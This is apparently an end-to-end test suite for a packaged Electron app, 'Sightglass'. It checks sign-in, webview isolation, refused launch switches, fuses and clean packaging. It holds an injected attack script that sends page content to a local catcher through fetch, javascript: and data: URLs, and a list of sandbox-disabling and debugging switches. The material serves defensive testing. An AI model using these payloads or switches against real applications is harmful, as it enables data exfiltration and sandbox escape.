/**
 * The packaged app works without the loader, holds nothing but our code, and refuses what a person may not ask of it.
 */

import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { extractFile, listPackage } from '@electron/asar';
import { FuseV1Options, getCurrentFuseWire } from '@electron/fuses';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { noticesText } from '../../scripts/contents/notices.mjs';
import { en } from '../../src/shared/text/en.ts';
import { buildPackage, launchAsStranger, launchPackaged, type PackagedApp } from '../support/driver/packaged-app.ts';
import { openWorkbench, type Workbench } from '../support/driver/workbench.ts';

const root = join(import.meta.dirname, '../..');
/** The character that stands for a fuse that is on, in the list of fuses inside the executable. */
const enabled = '1'.charCodeAt(0);
const ben = 'ben.okafor@example.com';
/** Nothing else can happen in this process meanwhile, also no limit of a test. */
const COMMAND_LIMIT_MS = 60_000;
const shownRows = `({
  trips: document.querySelector('[data-testid="kpi-trips"]')?.textContent.match(/[\\d,]+/)?.[0].replaceAll(',', ''),
  boroughs: [...document.querySelectorAll('[data-testid^="borough-"]')].map((box) => box.value),
})`;

/** A server that nobody should reach. It hears connections, whatever comes over them. */
async function startCatcher() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('caught');
  });
  server.on('connection', () => heard.push('a connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    heard,
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/**
 * Runs in the window, as a script would that got into it: calls every method that the element of an admitted guest has,
 * with everything that could lead anywhere, and sets every attribute. @returns what it learned
 */
async function attackByGuest({ elsewhere, file }: { elsewhere: string; file: string }) {
  const guest = document.querySelector('[data-role="active"] > webview') as HTMLElement &
    Record<string, (...parameters: unknown[]) => unknown>;
  const methods: string[] = [];
  for (let type = Object.getPrototypeOf(guest); type !== HTMLElement.prototype; type = Object.getPrototypeOf(type)) {
    for (const [name, property] of Object.entries(Object.getOwnPropertyDescriptors(type))) {
      if (name !== 'constructor' && typeof property.value === 'function') methods.push(name);
    }
  }
  const script = `fetch('${elsewhere}/fetch?' + document.body.innerHTML); open('${elsewhere}/open');
    new Image().src = '${elsewhere}/image'; location.href = '${elsewhere}/location';
    document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/frame' }));
    document.documentElement.outerHTML + JSON.stringify(performance.getEntries()) + document.body.innerText`;
  const parameters: unknown[][] = [
    [''],
    [{}],
    [`${elsewhere}/x?data=1`],
    [file],
    [`data:text/html,<script>fetch('${elsewhere}/data')</script>`],
    ['about:blank'],
    [`javascript:fetch('${elsewhere}/javascript')`],
    [`view-source:${elsewhere}/`],
    ['chrome://version/'],
    ['devtools://devtools/bundled/inspector.html'],
    ['sightglass-app://app/index.html'],
    [`${elsewhere}/post`, { httpReferrer: `${elsewhere}/`, userAgent: 'x', extraHeaders: 'x: y' }],
    [`data:text/html,<img src=base>`, { baseURLForDataURL: `${elsewhere}/` }],
    [script],
    [`body { background: url('${elsewhere}/css') } @import '${elsewhere}/import';`],
    [{ type: 'mouseDown', x: 1, y: 1 }],
    ['embed-host.command', { type: 'workbook:variables:list' }],
    [1, 1],
  ];
  const answers: Record<string, unknown> = {};
  for (const given of parameters) {
    for (const name of methods) {
      // Calls go out one after the other and are answered when they are: one that never is holds nothing up.
      try {
        Promise.resolve(guest[name]?.(...given)).then(
          (answer) => (answers[`${name} ${JSON.stringify(given[0])}`] = answer),
          (error: unknown) => (answers[`${name} ${JSON.stringify(given[0])}`] = String(error)),
        );
      } catch (error) {
        answers[`${name} ${JSON.stringify(given[0])}`] = String(error);
      }
    }
  }
  for (const name of [
    'useragent',
    'httpreferrer',
    'partition',
    'preload',
    'webpreferences',
    'allowpopups',
    'nodeintegration',
  ]) {
    guest.setAttribute(name, `${elsewhere}/${name}`);
  }
  for (const address of [`${elsewhere}/src`, file, 'about:blank']) guest.setAttribute('src', address);
  const { sightglass } = window as unknown as { sightglass: { state: { get(): Promise<unknown> } } };
  // Main answers in turn: after these it has dealt with all of the above, and what came of it had its time as well.
  for (let times = 0; times < 50; times += 1) {
    await sightglass.state.get();
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }
  try {
    answers.afterwards = await Promise.race([
      guest.executeJavaScript?.('document.body.innerText'),
      sightglass.state.get().then(() => ''),
    ]);
  } catch (error) {
    answers.afterwards = String(error);
  }
  return { methods, answers: JSON.stringify(answers) };
}

// Only Linux is packaged and driven here; the other systems need their own machines.
describe.runIf(process.platform === 'linux')('the packaged app', () => {
  let folder: string;
  let executable: string;
  let bench: Workbench | null = null;
  let app: PackagedApp | null = null;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'sightglass-package-'));
    executable = await buildPackage(folder, { isTestBuild: true });
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true, maxRetries: 3 }));
  afterEach(async () => {
    await app?.close();
    await bench?.close();
    app = null;
    bench = null;
  });

  async function launch(workbench: Workbench, allowsLoopback: boolean, args: string[] = []): Promise<PackagedApp> {
    await app?.close();
    const { userData, browser } = workbench;
    app = await launchPackaged({ executable, userData, path: browser.path, arguments: args, allowsLoopback });
    return app;
  }

  test('signs a person in through the browser, and shows the rows of that person alone', async () => {
    bench = await openWorkbench();
    const running = await launch(bench, true, [`--import-env=${bench.envFile}`]);
    const page = await bench.signIn(running, ben);
    expect(await page.textContent('h1')).toContain('igned in');
    await running.window.locator('[data-testid="pane"][data-phase="ready"]').waitFor({ timeout: 60_000 });
    expect(await running.window.getByTestId('person').textContent()).toContain('Ben Okafor');

    const { origin } = bench.demo.sigma;
    const rows = () => running.inWorkbook<{ trips?: string; boroughs: string[] }>(origin, shownRows);
    await expect.poll(async () => (await rows()).trips).toBeTruthy();
    const audit = await bench.demo.controls.warehouse.audit();
    expect(new Set(audit.map((entry) => entry.userName))).toEqual(new Set([ben]));
    const shown = await rows();
    expect(shown.boroughs).toEqual(['Brooklyn', 'Queens']);
    expect(Number(shown.trips)).toBe(Math.max(...audit.map((entry) => entry.rows)));

    // Its picture is written by a thread that begins within the archive.
    const picture = () =>
      running.window.evaluate(async () => {
        const bridge = window.sightglass;
        const state = await bridge.state.get();
        const paneId = state.ok ? state.value.window.tabs[0]?.paneId : null;
        const answer = paneId ? await bridge.panes.picture({ paneId }) : null;
        return answer?.ok ? answer.value.picture : null;
      });
    await running.window.evaluate(() => window.sightglass.commands.run({ id: 'reloadWorkbook' }));
    await expect.poll(picture).toMatch(/^data:image\/png;base64,/);

    // All of this in the app that people get, with the desktop's keyring.
    expect(running.log()).toContainEqual(
      expect.objectContaining({ event: 'program.started', packaged: true, kind: 'tests' }),
    );
    expect(running.log()).toContainEqual(expect.objectContaining({ event: 'vault.opened', mode: 'encrypted' }));
  });

  test('refuses plain http, even to this computer, unless it is told otherwise', async () => {
    bench = await openWorkbench();
    const strict = await launch(bench, false, [`--import-env=${bench.envFile}`]);
    await strict.window.locator('[data-testid="notice"][data-code="insecure_server"]').waitFor();
    await strict.window.getByTestId('import-env').waitFor();

    // A profile that was kept in a more permissive run does not get around it.
    const permissive = await launch(bench, true, [`--import-env=${bench.envFile}`]);
    await permissive.window.getByTestId('sign-in').waitFor();
    const again = await launch(bench, false);
    await again.window.getByTestId('sign-in').click();
    await again.window.locator('[data-testid="error-panel"][data-code="insecure_server"]').waitFor();
    expect(bench.browser.unclaimed()).toEqual([]);
    expect(await bench.demo.controls.authorizationServer.journal({})).toEqual([]);
  });

  test('gives a script in its own window neither the network, nor files, nor the workbook, by any method of a guest', async () => {
    const catcher = await startCatcher();
    try {
      bench = await openWorkbench();
      const running = await launch(bench, true, [`--import-env=${bench.envFile}`]);
      await bench.signIn(running, ben);
      const ready = () =>
        running.window.locator('[data-testid="pane"][data-phase="ready"]').waitFor({ timeout: 60_000 });
      await ready();
      const file = join(bench.folder, 'private.txt');
      writeFileSync(file, 'private content of a file');

      const { methods, answers } = await running.window.evaluate(attackByGuest, {
        elsewhere: catcher.origin,
        file: `file://${file}`,
      });
      // Every method that the element has was tried, and these are among them.
      expect(methods).toEqual(expect.arrayContaining(['loadURL', 'downloadURL', 'executeJavaScript', 'openDevTools']));
      expect(methods.length).toBeGreaterThan(40);
      await ready();
      expect(answers).not.toContain('private content');
      expect(answers).not.toContain('jwt');
      expect(answers).not.toContain('<html');
      // A picture, a printed page, or an open tool is no text, but long or true.
      expect(JSON.parse(answers)).toMatchObject({
        'capturePage ""': '',
        'printToPDF {}': '',
        'isDevToolsOpened ""': false,
      });
      expect(catcher.heard).toEqual([]);
      expect(bench.browser.unclaimed()).toEqual([]);
      const refused = running.log().filter(({ event }) => event === 'guest.method-refused');
      expect(refused.map(({ method }) => method)).toEqual(expect.arrayContaining(['loadURL', 'openDevTools']));

      // It can take the workbook off the screen, and then that comes back.
      const guest = await running.window.locator('[data-role="active"]').getAttribute('data-guest');
      await running.window.evaluate(() => document.querySelector('webview')?.remove());
      await running.window.locator(`[data-guest="${guest}"]`).waitFor({ state: 'detached' });
      await ready();
      const { origin } = bench.demo.sigma;
      await expect.poll(() => running.inWorkbook(origin, `document.querySelector('h1')?.textContent`)).toBeTruthy();
      expect(catcher.heard).toEqual([]);
    } finally {
      await catcher.stop();
    }
  });

  test('writes no signed address down for the program that starts it', async () => {
    bench = await openWorkbench();
    const [trace, netLog, keys, log] = ['trace.json', 'net-log.json', 'keys.txt', 'chromium.log'].map((name) =>
      join(bench?.folder ?? '', name),
    );
    const { userData, browser } = bench;
    app = await launchPackaged({
      executable,
      userData,
      path: browser.path,
      allowsLoopback: true,
      arguments: [
        `--import-env=${bench.envFile}`,
        '--trace-startup=disabled-by-default-netlog,netlog,navigation,loading',
        `--trace-startup-file=${trace}`,
        '--trace-startup-duration=1',
        `--log-net-log=${netLog}`,
        '--net-log-capture-mode=Everything',
        '--enable-logging=file',
        `--log-file=${log}`,
        '--vmodule=*=3',
      ],
      variables: { SSLKEYLOGFILE: String(keys), NODE_TLS_REJECT_UNAUTHORIZED: '0', ELECTRON_ENABLE_LOGGING: '1' },
    });
    await bench.signIn(app, ben);
    await app.window.locator('[data-testid="pane"][data-phase="ready"]').waitFor({ timeout: 60_000 });
    expect(app.log()).toContainEqual(
      expect.objectContaining({
        event: 'program.switches-refused',
        level: 'warn',
        names: [
          'trace-startup',
          'trace-startup-file',
          'trace-startup-duration',
          'log-net-log',
          'net-log-capture-mode',
          'enable-logging',
          'log-file',
          'vmodule',
          'SSLKEYLOGFILE',
          'NODE_TLS_REJECT_UNAUTHORIZED',
          'ELECTRON_ENABLE_LOGGING',
        ].sort(),
      }),
    );
    // What is written only at the end counts as well.
    await app.close();
    expect([trace, netLog, keys].filter((file) => existsSync(String(file)))).toEqual([]);
    // Chromium opens this one before any line of ours; the process that did it knows nothing and ends.
    expect(existsSync(String(log)) ? readFileSync(String(log), 'utf8') : '').not.toMatch(/jwt|eyJ/);
  });

  test('leaves a report of a crash on this computer, and the next start says so quietly', async () => {
    bench = await openWorkbench();
    const reports = join(bench.userData, 'crash-reports');
    const crashing = await launch(bench, true);
    await crashing.window.getByTestId('set-up').waitFor();
    expect(statSync(reports).mode & 0o777).toBe(0o700);
    const dumps = () =>
      readdirSync(reports, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.dmp'));
    expect(dumps()).toEqual([]);
    await crashing.crash();
    await expect.poll(dumps).toHaveLength(1);
    for (const name of dumps()) expect(statSync(join(reports, name)).mode & 0o077).toBe(0);

    const next = await launch(bench, true);
    await next.window.getByTestId('set-up').waitFor();
    expect(next.log()).toContainEqual(expect.objectContaining({ event: 'program.ended-badly', left: 'report' }));
    expect(await next.window.getByTestId('notice').count()).toBe(0);
    // The menu bar is the operating system's; the window is asked as the menu asks it.
    await next.window.evaluate(() => window.sightglass.about.show({ page: 'program' }));
    await next.window.getByTestId('after-crash').waitFor();
    await next.window.getByTestId('about-crashes').click();
    await next.window.getByTestId('show-crash-reports').waitFor();
    // The rest of the dialog reads what the build wrote.
    const turnTo = async (page: string) => {
      await next.window.getByTestId('about-back').click();
      await next.window.getByTestId(`about-${page}`).click();
    };
    await turnTo('notices');
    const parties = next.window.getByTestId('third-parties').getByRole('listitem');
    await expect.poll(() => parties.count()).toBeGreaterThan(20);
    await turnTo('licence');
    await next.window.getByTestId('licence').getByText('UNLICENSED').waitFor();
    await turnTo('news');
    await next.window.getByTestId('news').waitFor();
  });

  test('has its fuses set as configured', async () => {
    const configuration = readFileSync(join(root, 'electron-builder.yml'), 'utf8');
    const block = /^electronFuses:\n((?: .*\n)+)/m.exec(configuration)?.[1] ?? '';
    const configured = [...block.matchAll(/^ +(\w+): (true|false)$/gm)].map(([, name = '', value]) => {
      const option = `${name.charAt(0).toUpperCase()}${name.slice(1)}` as keyof typeof FuseV1Options;
      return [option, value === 'true'] as const;
    });
    const wire = await getCurrentFuseWire(executable);
    const actual = configured.map(
      ([option]) => [option, wire[FuseV1Options[option] as FuseV1Options] === enabled] as const,
    );
    expect(actual).toEqual(configured);
    // These fuses keep other programs from running code under our name, whatever the configuration file says.
    expect(Object.fromEntries(actual)).toMatchObject({
      RunAsNode: false,
      EnableNodeOptionsEnvironmentVariable: false,
      EnableNodeCliInspectArguments: false,
      OnlyLoadAppFromAsar: true,
    });
  });

  test('brings the licences of all that it holds, for who looks into its folder and for its own window', () => {
    const resources = join(dirname(executable), 'resources');
    const notices = JSON.parse(
      extractFile(join(resources, 'app.asar'), 'out/main/third-party-notices.json').toString('utf8'),
    );
    expect(readFileSync(join(resources, 'THIRD_PARTY_NOTICES.txt'), 'utf8')).toBe(noticesText(notices));
    expect(readFileSync(join(resources, 'LICENSE.txt'), 'utf8')).toBe(readFileSync(join(root, 'LICENSE'), 'utf8'));
    expect(existsSync(join(dirname(executable), 'LICENSES.chromium.html'))).toBe(true);
  });

  test('holds our code and nothing else: no dependency, no secret, no trace of this machine', () => {
    const archive = join(dirname(executable), 'resources/app.asar');
    const entries = listPackage(archive, { isPack: false }).map((entry) => entry.replaceAll('\\', '/').slice(1));
    // What is known about the build is for who distributes it.
    expect(entries.filter((entry) => entry.startsWith('out/contents'))).toEqual([]);
    expect(entries.filter((entry) => !/^(package\.json|out|out\/.+)$/.test(entry))).toEqual([]);
    expect(entries).toEqual(expect.arrayContaining(['package.json', 'out/main/index.js', 'out/renderer/index.html']));
    expect(
      entries.filter((entry) => /\.env|\.npmrc|\.pem$|\.key$|\.p12$|\.map$|secret|credential/i.test(entry)),
    ).toEqual([]);

    const files = entries.filter((entry) => /\.\w+$/.test(entry));
    const traces = [root, homedir() === '/' ? root : `${homedir()}/`, 'sourceMappingURL='];
    // The set-up form mentions the first line of a key in a text; a real key has its content after that line.
    const keyMaterial = /PRIVATE KEY-----(?:\s|\\[nr])*[A-Za-z0-9+/]{32}/;
    const found = files.flatMap((file) => {
      const text = extractFile(archive, file).toString('latin1');
      const seen = traces.filter((trace) => text.includes(trace)).map((trace) => `${file}: ${trace}`);
      return keyMaterial.test(text) ? [...seen, `${file}: a private key`] : seen;
    });
    expect(found).toEqual([]);
  });
});

/** An ordinary user that every Linux has: a package for people does not start as root, which has no sandbox. */
const NOBODY = 65_534;
const isRoot = process.getuid?.() === 0;

describe.runIf(process.platform === 'linux')('the packaged app that people get', () => {
  let folder: string;
  let executable: string;
  let bench: Workbench;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'sightglass-package-'));
    executable = await buildPackage(folder, { isTestBuild: false });
    for (const path of [folder, dirname(executable)]) chmodSync(path, 0o755);
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true, maxRetries: 3 }));
  beforeEach(async () => {
    bench = await openWorkbench();
  });
  afterEach(() => bench.close());

  function launch(name: string, switches: string[], variables: Record<string, string>, program = executable) {
    const home = join(folder, name);
    const userData = join(home, 'user-data');
    for (const made of [home, userData]) {
      mkdirSync(made, { recursive: true });
      if (isRoot) chownSync(made, NOBODY, NOBODY);
    }
    const app = launchAsStranger({
      executable: program,
      userData,
      path: bench.browser.path,
      switches: switches.map((one) => one.replace('{home}', home)),
      variables: {
        HOME: home,
        XDG_RUNTIME_DIR: home,
        ...Object.fromEntries(Object.entries(variables).map(([key, value]) => [key, value.replace('{home}', home)])),
      },
      ...(isRoot && { uid: NOBODY }),
    });
    return { app, home };
  }

  /** One of each kind, and each with an effect of its own that could be seen. */
  const strangers = [
    '--no-sandbox',
    '--disable-gpu-sandbox',
    '--remote-debugging-port=0',
    '--js-flags=--expose-gc',
    '--renderer-cmd-prefix=/usr/bin/env',
    '--use-mock-keychain',
    '--ignore-certificate-errors',
    '--host-rules=MAP * 127.0.0.1',
    '--proxy-server=127.0.0.1:1',
    '--log-net-log={home}/net-log.json',
    '--trace-startup=netlog',
    '--trace-startup-file={home}/trace.json',
    '-allow-file-access-from-files',
  ];
  const variables = {
    NODE_TLS_REJECT_UNAUTHORIZED: '0',
    NODE_V8_COVERAGE: '{home}/coverage',
    SSLKEYLOGFILE: '{home}/keys.txt',
    ELECTRON_DISABLE_SANDBOX: '1',
    SIGHTGLASS_ALLOW_LOOPBACK_SERVICES: '1',
    SIGHTGLASS_ALLOW_REMOTE_DEBUGGING: '1',
  };

  test('runs in its sandbox, without anything that a stranger asked for', async () => {
    const { app, home } = launch('strange', strangers, variables);
    try {
      const { names } = await app.logged('program.switches-refused');
      const refused = [...strangers.map((one) => one.replace(/^-+/, '').replace(/=.*/, '')), ...Object.keys(variables)];
      expect(names).toEqual([...refused].sort());
      await app.logged('vault.opened');
      const pages = () => app.processes().filter(({ commandLine }) => commandLine.includes('--type=renderer'));
      await expect.poll(() => pages().some(({ isFiltered }) => isFiltered), { timeout: 30_000 }).toBe(true);
      expect(pages().every(({ isFiltered }) => isFiltered)).toBe(true);
      // Of their environment nothing can be seen from outside: Chromium overwrites the place where it was.
      const given = app.processes().map(({ commandLine }) => commandLine);
      expect(given.some((text) => text.includes('--started-again'))).toBe(true);
      expect(refused.filter((name) => given.some((text) => text.includes(name)))).toEqual([]);
      expect(app.said()).not.toContain('DevTools listening');
    } finally {
      await app.close();
    }
    expect(['net-log.json', 'trace.json', 'keys.txt'].filter((name) => existsSync(join(home, name)))).toEqual([]);
  });

  test('does a command without a window, without what a launcher or a stranger added to it, and takes no switch after it', async () => {
    const home = join(folder, 'command');
    const userData = join(home, 'user-data');
    for (const made of [home, userData]) {
      mkdirSync(made, { recursive: true });
      if (isRoot) chownSync(made, NOBODY, NOBODY);
    }
    const asUser = isRoot ? ['setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups'] : [];
    const run = (words: readonly string[], more: Record<string, string> = {}) => {
      const [program = executable, ...args] = [...asUser, executable, `--user-data-dir=${userData}`, ...words];
      const env = {
        PATH: bench.browser.path,
        HOME: home,
        XDG_RUNTIME_DIR: home,
        LANGUAGE: 'en',
        DISPLAY: process.env.DISPLAY,
        ...more,
      };
      return spawnSync(program, args, { encoding: 'utf8', env, timeout: COMMAND_LIMIT_MS });
    };
    const version = run(['version', '--json']);
    expect(JSON.parse(version.stdout)).toMatchObject({ build: 'not-a-release' });
    // What the launcher adds where it finds no sandbox for itself, and what a stranger adds.
    const list = run(['--no-sandbox', 'profile', 'list'], { NODE_TLS_REJECT_UNAUTHORIZED: '0' });
    expect([list.status, list.stdout.trim()]).toEqual([0, en.commandLine.shows.noProfiles]);
    const withoutDisplay = run(['auth', 'status'], { DISPLAY: '' });
    expect([withoutDisplay.status, withoutDisplay.stdout.trim()]).toEqual([0, en.commandLine.shows.noConnections]);
    const after = run(['doctor', '--remote-debugging-port=0']);
    expect(after.status).toBe(2);
    expect(after.stderr).not.toContain('DevTools listening');
  });

  test('starts once, without a second look, where nothing is to be refused', async () => {
    const { app } = launch('plain', ['--lang=en-US', '--force-device-scale-factor=1.5'], { NODE_ENV: 'production' });
    try {
      await app.logged('vault.opened');
      expect(app.processes().filter(({ commandLine }) => commandLine.includes('--started-again'))).toEqual([]);
    } finally {
      await app.close();
    }
  });

  test('is no program in development where a stranger calls its executable so', async () => {
    const renamed = join(dirname(executable), 'electron');
    linkSync(executable, renamed);
    const { app } = launch('renamed', ['--remote-debugging-port=0'], { SIGHTGLASS_LANGUAGE: 'pseudo' }, renamed);
    try {
      const { names } = await app.logged('program.switches-refused');
      expect(names).toEqual(['SIGHTGLASS_LANGUAGE', 'remote-debugging-port']);
      expect(await app.logged('program.started')).toMatchObject({ packaged: true });
      expect(app.said()).not.toContain('DevTools listening');
    } finally {
      await app.close();
    }
  });

  test('says in its log why it could not start, before it says so in a box that may stand for days', async () => {
    mkdirSync(join(folder, 'spoiled/user-data/settings.json'), { recursive: true });
    const { app } = launch('spoiled', [], {});
    try {
      expect(await app.logged('program.start-failed')).toMatchObject({
        code: 'settings_unreadable',
        systemCode: 'EISDIR',
      });
    } finally {
      await app.close();
    }
  });

  test('does not start at all where a stranger claims that it was started again', async () => {
    const { app } = launch('claimed', ['--started-again', '--remote-debugging-port=0'], {});
    try {
      expect(await app.logged('program.start-refused')).toMatchObject({ names: ['remote-debugging-port'] });
    } finally {
      await app.close();
    }
    expect(readFileSync(join(folder, 'claimed/user-data/logs/sightglass.log'), 'utf8')).not.toContain(
      'program.started',
    );
  });
});
